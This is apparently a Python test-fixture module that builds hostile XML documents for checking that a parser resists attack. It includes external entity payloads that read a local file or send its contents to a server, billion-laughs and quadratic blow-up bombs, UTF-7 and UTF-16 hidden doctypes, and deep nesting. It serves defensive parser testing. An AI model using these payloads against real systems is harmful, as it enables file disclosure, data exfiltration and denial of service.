"""XML that attacks whoever parses it, for every kind of root."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import NamedTuple

from hostile.making import MIB, Root

SECRET = "TOPSECRET"


class Lures(NamedTuple):
    """What an attack tries to reach: the address of a file that holds ``SECRET``, and one of a server."""

    file: str
    web: str


Make = Callable[[Root, Lures], bytes]


def _text(make: Callable[[Root, Lures], str], encoding: str = "utf-8") -> Make:
    return lambda root, to: make(root, to).encode(encoding)


_LAUGHS = '<!ENTITY l0 "haha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
_LARGE = f'<!ENTITY a "{"A" * 30_000}">'

DECLARING: Mapping[str, Make] = {
    "external entity (file)": _text(lambda r, to: r.declaring(f'<!ENTITY x SYSTEM "{to.file}">', "&x;")),
    "external entity (http)": _text(lambda r, to: r.declaring(f'<!ENTITY x SYSTEM "{to.web}x">', "&x;")),
    "external entity (public)": _text(lambda r, to: r.declaring(f'<!ENTITY x PUBLIC "a" "{to.file}">', "&x;")),
    "external entity in an attribute": _text(
        lambda r, to: r.declaring(f'<!ENTITY x SYSTEM "{to.file}">', attributes=' a="&x;"')
    ),
    "external entity that is not used": _text(lambda r, to: r.declaring(f'<!ENTITY x SYSTEM "{to.file}">')),
    "parameter entity (file)": _text(lambda r, to: r.declaring(f'<!ENTITY % p SYSTEM "{to.file}"> %p;<!ENTITY x "y">')),
    "parameter entity (http)": _text(lambda r, to: r.declaring(f'<!ENTITY % p SYSTEM "{to.web}p"> %p;')),
    "parameter entity in an entity": _text(
        lambda r, to: r.declaring(
            f'<!ENTITY % f SYSTEM "{to.file}"><!ENTITY % e "<!ENTITY x SYSTEM \'{to.web}?%f;\'>">%e;', "&x;"
        )
    ),
    "entity in a text": _text(lambda r, to: r.declaring('<!ENTITY x "y">', "&x;")),
    "entity in an attribute": _text(lambda r, to: r.declaring('<!ENTITY x "y">', attributes=' a="&x;"')),
    "entity with markup": _text(lambda r, to: r.declaring("<!ENTITY x '<a>b</a>'>", "&x;")),
    "entity that is itself": _text(lambda r, to: r.declaring('<!ENTITY x "&y;"><!ENTITY y "&x;">', "&x;")),
    "entity behind a comment with a tag": _text(
        lambda r, to: r.declaring(f'<!-- <a --><!ENTITY x SYSTEM "{to.file}">', "&x;")
    ),
    "unparsed entity": _text(
        lambda r, to: r.declaring(f'<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "{to.file}" NDATA n>')
    ),
    "billion laughs": _text(lambda r, to: r.declaring(_LAUGHS, "&l11;")),
    "billion laughs in an attribute": _text(lambda r, to: r.declaring(_LAUGHS, attributes=' a="&l11;"')),
    "quadratic blow-up": _text(lambda r, to: r.declaring(_LARGE, "&a;" * 3_000)),
    "quadratic blow-up in an attribute": _text(lambda r, to: r.declaring(_LARGE, attributes=f' a="{"&a;" * 3_000}"')),
}
"""Documents that declare entities: none is expanded, none is read."""

TYPED: Mapping[str, Make] = {
    "external DTD (file)": _text(lambda r, to: r.made(before=f'<!DOCTYPE {r.element} SYSTEM "{to.file}">')),
    "external DTD (http)": _text(lambda r, to: r.made(before=f'<!DOCTYPE {r.element} SYSTEM "{to.web}x.dtd">')),
    "attribute by default": _text(lambda r, to: r.declaring(f'<!ATTLIST {r.element} evil CDATA "evil">')),
}
"""Documents with a document type that declares no entity: it is not loaded."""

BROKEN: Mapping[str, Make] = {
    "truncated": _text(lambda r, to: r.made()[:-3]),
    "two roots": _text(lambda r, to: r.made() + r.made()),
    "100,000 levels": _text(lambda r, to: r.made("<a>" * 100_000 + "</a>" * 100_000)),
    "undeclared entity": _text(lambda r, to: r.made("&nbsp;")),
    "character that XML has not": _text(lambda r, to: r.made("a\x01b")),
    "reference to NUL": _text(lambda r, to: r.made("a&#0;b")),
    "attribute twice": _text(lambda r, to: r.made(attributes=' a="1" a="2"')),
    "prefix without namespace": _text(lambda r, to: r.made("<x:a/>")),
    "ISO-8859-1 that says UTF-8": _text(
        lambda r, to: r.made("\xe9", before='<?xml version="1.0" encoding="UTF-8"?>'), "latin-1"
    ),
    "UTF-7 that hides a document type": _text(
        lambda r, to: (
            '<?xml version="1.0" encoding="UTF-7"?>'
            f"+ADwAIQ-DOCTYPE a +AFsAPAAh-ENTITY x SYSTEM +ACI{to.file}+ACI-+AD4AXQA+-{r.made('+ACY-x;')}"
        )
    ),
    "encoding that nobody knows": _text(lambda r, to: r.made(before='<?xml version="1.0" encoding="x-klingon"?>')),
    "document type in lower case": _text(lambda r, to: r.made(before="<!doctype a>")),
    "comment without end": _text(lambda r, to: r.made("<!-- x")),
    "CDATA section without end": _text(lambda r, to: r.made("<![CDATA[ x")),
}
"""Documents that no parser may take."""

STRANGE: Mapping[str, Make] = {
    "EBCDIC": _text(lambda r, to: r.made(before='<?xml version="1.0" encoding="cp037"?>'), "cp037"),
    "NUL bytes": _text(lambda r, to: r.made("a\0b")),
    "two byte order marks": _text(lambda r, to: "\ufeff\ufeff" + r.made()),
    "nothing but a document type": _text(lambda r, to: f"<!DOCTYPE {r.element}>"),
    "UTF-16 that hides a document type": _text(
        lambda r, to: r.declaring(f'<!ENTITY x SYSTEM "{to.file}">', "&x;"), "utf-16"
    ),
    "UTF-32": _text(lambda r, to: r.made(), "utf-32"),
}
"""Documents that are told by their first bytes, if at all."""

HARMLESS: Mapping[str, Make] = {
    "processing instruction": _text(
        lambda r, to: r.made("x<?php evil()?>", before=f'<?xml-stylesheet type="text/xsl" href="{to.web}"?>')
    ),
    "xml:base": _text(lambda r, to: r.made(attributes=f' xml:base="{to.web}"')),
    "XInclude": _text(
        lambda r, to: r.made(
            f'x<xi:include href="{to.file}" parse="text"/>', attributes=' xmlns:xi="http://www.w3.org/2001/XInclude"'
        )
    ),
    "schema elsewhere": _text(
        lambda r, to: r.made(
            attributes=f' xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="{to.web} {to.web}x.xsd"'
        )
    ),
    "script in a CDATA section": _text(lambda r, to: r.made("<![CDATA[<script>alert(1)</script>]]>")),
    "comment of 1 MB": _text(lambda r, to: r.made(f"x<!--{'y' * MIB}-->")),
}
"""Documents in which something is to be left alone: nothing is fetched, nothing obeyed."""
